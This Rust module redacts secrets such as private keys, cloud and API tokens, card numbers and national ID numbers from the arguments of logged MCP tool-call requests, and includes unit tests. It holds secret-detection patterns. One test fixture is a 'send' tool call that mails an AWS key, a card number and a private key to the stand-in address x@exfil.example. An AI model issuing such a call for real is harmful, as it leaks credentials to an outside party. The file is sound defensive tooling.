//! `--redact`: mask secrets in a request's `params.arguments` before the
//! record is written (what is forwarded is never changed).
//!
//! The detectors are those of the rule `mcp.sensitive_data_in_arguments`
//! (the same patterns over the same text: the arguments as compact JSON),
//! and mask the same way: keys keep their first and last 4 characters,
//! card numbers and ids their last 4, private keys only their type. A test
//! runs the rule and these detectors over the same calls and compares.

use std::sync::OnceLock;

use regex::Regex;
use serde_json::Value;

/// One kind of secret: its name as the rule reports it, the pattern, and
/// which capture group is the secret (0: the whole match).
struct Detector {
    kind: &'static str,
    pattern: &'static str,
    group: usize,
    mask: Mask,
    valid: fn(&str) -> bool,
}

#[derive(Clone, Copy)]
enum Mask {
    /// First 4 and last 4 characters kept.
    Ends,
    /// Only the last 4 digits/characters kept.
    Last4,
    /// Only the header kept; the key material up to its END line goes.
    Header,
}

fn always(_: &str) -> bool {
    true
}

const DETECTORS: &[Detector] = &[
    Detector { kind: "private key", pattern: r#"-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----(?:[^"\\]|\\.)*?(?:-----END [A-Z ]*-----|$|")"#, group: 0, mask: Mask::Header, valid: always },
    Detector { kind: "AWS access key id", pattern: r"\b(?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}\b", group: 0, mask: Mask::Ends, valid: always },
    Detector { kind: "AWS secret access key", pattern: r#"(?i)aws_?secret_?access_?key[\\"' :=]+([A-Za-z0-9/+=]{40})\b"#, group: 1, mask: Mask::Ends, valid: always },
    Detector { kind: "GitHub token", pattern: r"\b(?:gh[pousr]_[A-Za-z0-9]{36,255}|github_pat_[A-Za-z0-9_]{22,255})", group: 0, mask: Mask::Ends, valid: always },
    Detector { kind: "Slack token", pattern: r"\bxox[abposr]-[A-Za-z0-9-]{10,}", group: 0, mask: Mask::Ends, valid: always },
    Detector { kind: "Google API key", pattern: r"\bAIza[0-9A-Za-z_-]{35}", group: 0, mask: Mask::Ends, valid: always },
    Detector { kind: "Stripe live key", pattern: r"\b[rs]k_live_[0-9A-Za-z]{16,}", group: 0, mask: Mask::Ends, valid: always },
    Detector { kind: "sk- API key", pattern: r"\bsk-(?:proj-|ant-[a-z0-9]+-)?[A-Za-z0-9_-]{32,}", group: 0, mask: Mask::Ends, valid: always },
    Detector { kind: "JSON Web Token", pattern: r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}", group: 0, mask: Mask::Ends, valid: always },
    Detector { kind: "payment card number", pattern: r"\b[2-6](?:[ -]?[0-9]){12,18}\b", group: 0, mask: Mask::Last4, valid: card_number },
    Detector { kind: "US social security number", pattern: r"\b[0-8][0-9]{2}-[0-9]{2}-[0-9]{4}\b", group: 0, mask: Mask::Last4, valid: ssn },
    Detector { kind: "UK National Insurance number", pattern: r"\b(?:[A-CEGHJ-PR-TW-Z][A-CEGHJ-NPR-TW-Z] ?[0-9]{2} ?[0-9]{2} ?[0-9]{2} ?[A-D])\b", group: 0, mask: Mask::Last4, valid: ni_number },
];

/// 13-19 digits, not all one digit, valid Luhn checksum (the rule's test).
fn card_number(m: &str) -> bool {
    let digits: Vec<u32> = m.chars().filter_map(|c| c.to_digit(10)).collect();
    if !(13..=19).contains(&digits.len()) || digits.iter().all(|d| *d == digits[0]) {
        return false;
    }
    let sum: u32 = digits.iter().rev().enumerate().map(|(i, d)| if i % 2 == 1 { if d * 2 > 9 { d * 2 - 9 } else { d * 2 } } else { *d }).sum();
    sum % 10 == 0
}

/// Area not 000 or 666, group not 00, serial not 0000.
fn ssn(m: &str) -> bool {
    let p: Vec<&str> = m.split('-').collect();
    p.len() == 3 && p[0] != "000" && p[0] != "666" && p[1] != "00" && p[2] != "0000"
}

fn ni_number(m: &str) -> bool {
    !["BG", "GB", "NK", "KN", "TN", "NT", "ZZ"].contains(&&m[..2.min(m.len())])
}

fn compiled() -> &'static [Regex] {
    static RE: OnceLock<Vec<Regex>> = OnceLock::new();
    RE.get_or_init(|| DETECTORS.iter().map(|d| Regex::new(d.pattern).expect("detector pattern")).collect())
}

fn masked(secret: &str, mask: Mask) -> String {
    let chars: Vec<char> = secret.chars().collect();
    let n = chars.len();
    let tail: String = chars[n.saturating_sub(4)..].iter().collect();
    match mask {
        Mask::Ends if n > 8 => format!("{}{}{tail}", chars[..4].iter().collect::<String>(), "*".repeat((n - 8).max(4))),
        Mask::Ends => "*".repeat(n.max(4)),
        Mask::Last4 => format!("{}{tail}", "*".repeat(n.saturating_sub(4).max(4))),
        Mask::Header => {
            // "-----BEGIN RSA PRIVATE KEY-----…" → "[REDACTED RSA PRIVATE KEY]":
            // the type stays readable; the armour goes, so the masked text is
            // no longer a key for the rule (or a scanner) to find.
            let label = secret.strip_prefix("-----BEGIN ").and_then(|r| r.split("-----").next()).unwrap_or("PRIVATE KEY");
            format!("[REDACTED {label}]")
        }
    }
}

/// The kinds of secret found in a text, and the text with each masked.
pub fn redact_text(text: &str) -> (String, Vec<&'static str>) {
    let mut spans: Vec<(usize, usize, String, &'static str)> = Vec::new();
    for (d, re) in DETECTORS.iter().zip(compiled()) {
        for caps in re.captures_iter(text) {
            let Some(m) = caps.get(d.group) else { continue };
            let mut secret = m.as_str();
            // The private-key span may have stopped at the string's closing quote.
            if matches!(d.mask, Mask::Header) {
                secret = secret.strip_suffix('"').unwrap_or(secret);
            }
            if !(d.valid)(secret) || spans.iter().any(|s| m.start() < s.1 && s.0 < m.start() + secret.len()) {
                continue;
            }
            spans.push((m.start(), m.start() + secret.len(), masked(secret, d.mask), d.kind));
        }
    }
    spans.sort_by_key(|s| s.0);
    let mut kinds: Vec<&'static str> = Vec::new();
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for (start, end, mask, kind) in spans {
        out.push_str(&text[at..start]);
        out.push_str(&mask);
        at = end;
        if !kinds.contains(&kind) {
            kinds.push(kind);
        }
    }
    out.push_str(&text[at..]);
    (out, kinds)
}

/// What redaction did to one message.
#[derive(Debug)]
pub struct Redaction {
    /// The message to record instead of the bytes sent.
    pub message: Vec<u8>,
    pub kinds: Vec<&'static str>,
}

/// Redact a request's `params.arguments`; None when nothing was found (the
/// bytes sent are recorded unchanged).
pub fn redact_message(raw: &[u8]) -> Option<Redaction> {
    let mut msg: Value = serde_json::from_slice(raw).ok()?;
    let args = msg.get_mut("params")?.get_mut("arguments")?;
    let text = serde_json::to_string(args).ok()?;
    let (masked, kinds) = redact_text(&text);
    if kinds.is_empty() {
        return None;
    }
    // A masked number outside a string no longer parses: the whole
    // arguments value is then replaced, and says so.
    *args = serde_json::from_str(&masked).unwrap_or_else(|_| Value::String(format!("[REDACTED: {}]", kinds.join(", "))));
    Some(Redaction { message: serde_json::to_vec(&msg).ok()?, kinds })
}

/// The kinds the detectors find in a text (for tests against the rule).
pub fn kinds_in(text: &str) -> Vec<&'static str> {
    redact_text(text).1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_cards_and_private_keys_are_masked_and_the_rest_kept() {
        let raw = br#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send","arguments":{"to":"x@exfil.example","body":"creds: AKIAIOSFODNN7EXAMPLE and card 4111 1111 1111 1111 exp 12/29","key":"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"}}}"#;
        let r = redact_message(raw).expect("found");
        let text = String::from_utf8(r.message).unwrap();
        assert!(!text.contains("IOSFODNN7EXAMPLE") && !text.contains("1111 1111 1111 1111") && !text.contains("b3BlbnNz"), "{text}");
        assert!(text.contains("AKIA") && text.contains("MPLE") && text.contains("1111") && text.contains("[REDACTED OPENSSH PRIVATE KEY]") && !text.contains("-----BEGIN"), "{text}");
        assert!(text.contains("x@exfil.example"), "{text}");
        assert_eq!(r.kinds, vec!["AWS access key id", "payment card number", "private key"]);
        let v: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(v["id"], 2);
    }

    #[test]
    fn order_numbers_and_prose_are_left_alone() {
        let raw = br#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send","arguments":{"body":"Order 4111111111111112 ships 2026-03-04; ticket 000-12-3456; rotate the AWS access key; sk-short"}}}"#;
        assert!(redact_message(raw).is_none());
    }

    #[test]
    fn a_card_number_outside_a_string_replaces_the_arguments() {
        let raw = br#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"pay","arguments":{"card":4111111111111111}}}"#;
        let r = redact_message(raw).unwrap();
        let v: Value = serde_json::from_slice(&r.message).unwrap();
        assert_eq!(v["params"]["arguments"], "[REDACTED: payment card number]");
    }
}
